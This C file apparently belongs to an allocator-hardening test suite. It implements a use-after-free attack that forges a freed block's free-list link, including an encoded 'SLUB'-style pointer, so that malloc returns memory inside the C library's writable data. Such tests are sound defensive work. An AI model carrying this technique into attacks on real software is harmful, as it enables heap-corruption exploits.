/* SPDX-License-Identifier: MIT */
/*
 * A write to a freed block: its link leads to variables of the library that has malloc.  One
 * address of that library is known, and the attacker's copy of it tells where in it a word lies
 * that a free block would have.
 */
#include "attack.h"

#include <dlfcn.h>
#include <link.h>

struct searched {
	uintptr_t within;
	enum second_word way;
	uintptr_t key;
	char *found;
};

static bool suits(const struct searched *searched, const char *at)
{
	if (dialect != SLUB)
		return false;
	return word_at(at + 8) == second_word_make(searched->way, searched->key,
						   (uintptr_t)at, word_at(at));
}

static int search(struct dl_phdr_info *info, size_t bytes, void *data)
{
	struct searched *searched = data;
	uintptr_t start = info->dlpi_addr, end = start;

	(void)bytes;
	for (int i = 0; i < info->dlpi_phnum; i++)
		end += info->dlpi_phdr[i].p_type == PT_LOAD ?
			       info->dlpi_addr + info->dlpi_phdr[i].p_vaddr +
				       info->dlpi_phdr[i].p_memsz - end : 0;
	if (searched->within < start || searched->within >= end)
		return 0;
	for (int i = 0; i < info->dlpi_phnum; i++) {
		const ElfW(Phdr) *one = &info->dlpi_phdr[i];
		char *at = (char *)((start + one->p_vaddr + 15) & -(uintptr_t)16);
		char *to = (char *)(start + one->p_vaddr + one->p_memsz);

		if (one->p_type != PT_LOAD || !(one->p_flags & PF_W))
			continue;
		for (; at + 32 <= to; at += dialect == SLUB ? 8 : 16) {
			searched->found = at;	/* the last, if none suits */
			if (suits(searched, at))
				return 1;
		}
	}
	return 1;
}

static bool attack(size_t size, bool heap_is_known)
{
	struct searched searched = { .way = SECOND_UNKNOWN };
	struct neighbours pair;
	char *block;

	searched.within = (uintptr_t)dlsym(RTLD_DEFAULT, "malloc");
	if (dialect == SLUB)
		searched.way = second_word_study(size);
	history(size);
	pair = neighbours_get(size);
	free_some(size, pair.first, pair.second);
	block = pair.second;
	block_put(block);
	searched.key = second_word_key(searched.way, (uintptr_t)block,
				       word_at(block), word_at(block + 8));
	dl_iterate_phdr(search, &searched);
	word_write(block, heap_is_known ? plain_link(block, searched.found) :
					  (uintptr_t)searched.found);
	return gets_wrong(size, 200);
}

static bool blind(size_t size)
{
	return attack(size, false);
}

static bool known(size_t size)
{
	return attack(size, true);
}

const struct attack attacks[] = {
	{ "blind", blind, { 64 }, { 16, 24, 200, 512 }, NULL },
	{ "known", known, { 64 }, { 16, 24, 200, 512 }, NULL },
	{ .name = NULL },
};
